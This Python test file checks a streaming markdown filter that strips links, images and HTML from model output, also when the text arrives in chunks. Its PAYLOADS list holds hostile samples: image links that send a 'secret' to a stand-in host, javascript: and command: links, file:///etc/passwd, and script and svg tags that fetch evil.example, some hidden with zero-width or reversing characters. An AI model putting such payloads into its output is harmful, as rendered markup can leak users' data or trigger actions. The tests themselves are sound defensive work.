"""Markdown from a model is safe to show, however it is cut into parts."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from glossator.privacy.markdown import MarkdownFilter

NASTY = st.text(alphabet="ab !`~[]()<>:/\\\n\r\t#-*_hw.&;\u202e\u200b", max_size=60)
PIECES = st.lists(
    st.sampled_from(
        ["```", "~~~", "`", "``", "![a](http://e/x)", "[a](b)", "<img src=x>", "http://e.x/y", "\n", " ", "word", "- ",
         "> ", "[r]: http://e", "[a][r]", "\r", "\\", "(", ")", "[", "]", "!", "  ", "command:x", "www.e.x"]
    ),
    max_size=14,
).map("".join)  # fmt: skip

PAYLOADS = [
    "![x](https://evil.example/?q=secret)",
    "![x](https://evil.example/a.png 'title')",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "[click](command:workbench.action.terminal.new)",
    "[click](vscode://file/etc/passwd)",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](<https://evil.example>)",
    "[a\nb](https://evil.example)",
    "![a\nb](https://evil.example)",
    "[[a](b)](https://evil.example)",
    "[a][b]\n[b]: https://evil.example",
    "[a]\n\n[a]: https://evil.example",
    "   [a]: https://evil.example",
    "> [a]: https://evil.example",
    "[a]:\nhttps://evil.example",
    "<img src=https://evil.example/x.png>",
    "<IMG SRC=https://evil.example/x.png>",
    "<script>fetch('https://evil.example')</script>",
    "<a href='https://evil.example'>x</a>",
    "<!-- <img src=https://evil.example> -->",
    "<https://evil.example>",
    "<javascript:alert(1)>",
    "https://evil.example/?q=secret",
    "see www.evil.example/x",
    "ftp://evil.example/x",
    "file:///etc/passwd",
    "`<img src=x>\n` <img src=https://evil.example/x.png> `",
    "x ` y\nz ` <img src=https://evil.example/x.png> ` w",
    "- ```\n<img src=https://evil.example/x.png>\n",
    "- a\n  ```\n<img src=https://evil.example/x.png>\n",
    "\\`<img src=https://evil.example/x.png>\\`",
    "``a`<img src=https://evil.example/x.png>",
    "<\u200bimg src=https://evil.example/x.png>",
    "!\u200b[x](https://evil.example/x.png)",
    "<svg onload=fetch('https://evil.example')>",
    "<?php https://evil.example ?>",
    "![x]\u202e(https://evil.example/x.png)",
]


def filtered(text: str) -> str:
    stream = MarkdownFilter()
    return stream.feed(text) + stream.close()


def outside_code(markdown: str) -> str:
    """What a renderer does not take as code: fences at the first column, then spans."""
    kept, fence = [], ""
    for line in markdown.split("\n"):
        marks = re.match(r"(`{3,}|~{3,})([^\n]*)\Z", line)
        if fence:
            if marks and marks[1].startswith(fence) and not marks[2].strip():
                fence = ""
        elif marks and not (marks[1][0] == "`" and "`" in marks[2]):
            fence = marks[1]
        else:
            kept.append(line)
    # An escaped backtick opens nothing, and a span may go over line ends.
    text = "\n".join(kept).replace("\\`", "")
    return re.sub(r"(?<!`)(`+)(?!`).+?(?<!`)\1(?!`)", " ", text, flags=re.DOTALL)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_fetches_or_links_is_left_outside_of_code(payload: str) -> None:
    rest = outside_code(filtered(f"Before.\n{payload}\nAfter."))

    assert not re.search(r"!\[|\]\(|\]\[|\]:|<[A-Za-z/!?]|://|www\.", rest), rest


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("Plain *text* with `code`.", "Plain *text* with `code`.", id="ordinary markdown"),
        pytest.param("`a < b` and `[x](y)`", "`a < b` and `[x](y)`", id="code spans"),
        pytest.param("```python\nx = '<b>' # ![a](b)\n```\nend", "```python\nx = '<b>' # ![a](b)\n```\nend", id="a fence"),
        pytest.param("~~~\n<b>\n~~~\n", "~~~\n<b>\n~~~\n", id="a fence of tildes"),
        pytest.param("a [link](http://e.x) b", "a link b", id="a link becomes its text"),
        pytest.param("an ![image](http://e.x/i.png)", "an image", id="an image becomes its text"),
        pytest.param("go to http://e.x/y.", "go to `http://e.x/y`.", id="an address becomes code"),
        pytest.param("if a < b: pass", "if a < b: pass", id="a comparison"),
        pytest.param("List<int> is generic", "List&lt;int> is generic", id="a type parameter"),
        pytest.param("array[0](x)", "array0", id="an index that is called looks like a link"),
        pytest.param("a `` ` `` b", "a `` ` `` b", id="a span with a backtick in it"),
        pytest.param("```\nopen", "```\nopen\n```\n", id="a fence that is never closed is closed"),
        pytest.param("a\u202eb\x07c", "abc", id="hidden characters"),
        pytest.param("a\r\nb\rc", "a\nb\nc", id="line ends"),
    ],
)  # fmt: skip
def test_markdown_stays_readable(text: str, expected: str) -> None:
    assert filtered(text) == expected


@given(st.one_of(NASTY, PIECES), st.data())
def test_any_cut_into_parts_gives_the_same(text: str, data: st.DataObject) -> None:
    stream, shown, position = MarkdownFilter(), "", 0
    while position < len(text):
        size = data.draw(st.integers(1, 5))
        shown += stream.feed(text[position : position + size])
        position += size
    shown += stream.close()

    assert shown == filtered(text)


@given(st.one_of(NASTY, PIECES))
def test_no_markup_that_fetches_survives_any_text(text: str) -> None:
    rest = outside_code(filtered(text))

    assert not re.search(r"!\[|\]\(|<[A-Za-z/!?]|[A-Za-z]://", rest)


def test_plain_words_are_shown_at_once() -> None:
    stream = MarkdownFilter()

    assert stream.feed("It adds two ") == "It adds two "
